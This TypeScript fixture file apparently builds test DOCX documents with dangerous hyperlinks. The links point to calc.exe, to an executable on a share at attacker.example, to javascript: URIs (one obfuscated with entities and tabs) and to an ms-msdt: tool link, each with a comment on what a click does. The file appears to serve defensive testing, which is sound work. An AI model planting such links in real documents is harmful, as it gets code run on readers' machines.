import { docx, paragraph, picture, png, run } from './docx-parts.ts';
import { linked } from './docx-relations.ts';
import type { Row } from './variant.ts';

const asks = 'Word opens the program or the share on a click.';

const click = (target: string) =>
  linked('hyperlink', target, paragraph(`<w:hyperlink r:id="rId9">${run('Portfolio')}</w:hyperlink>`));

/** Links that open something else than a page, a mail or a call. */
export const docxLinks: readonly Row[] = [
  ['link to a program', click('file:///C:/Windows/System32/calc.exe'), asks],
  ['link to a share', click('\\\\attacker.example\\share\\a.exe'), asks],
  ['link to a share with slashes', click('//attacker.example/share/a.exe'), asks],
  ['link to a script', click('javascript:alert(1)'), 'A reader within a browser runs the script on a click.'],
  [
    'link to a script by entities and tabs',
    click('java&#9;script&#58;alert(1)'),
    'A reader within a browser takes the tab out and runs the script.',
  ],
  ['link to a tool of Windows', click('ms-msdt:/id%20PCWDiagnostic'), 'Windows starts the tool on a click.'],
  [
    'link of a picture to a program',
    linked(
      'hyperlink',
      'file:///C:/Windows/System32/calc.exe',
      picture('rId7').replace(
        'name="Picture"/><a:graphic>',
        'name="Picture"><a:hlinkClick r:id="rId9"/></wp:docPr><a:graphic>',
      ),
      { relations: { rId7: { type: 'image', target: 'media/a.png' } }, parts: { 'word/media/a.png': png() } },
    ),
    asks,
  ],
  [
    'link of a shape of old to a program',
    docx({
      body: paragraph(
        '<w:r><w:pict><v:shape href="file:///C:/Windows/System32/calc.exe" style="width:90pt;height:90pt"/></w:pict></w:r>',
      ),
    }),
    asks,
  ],
];
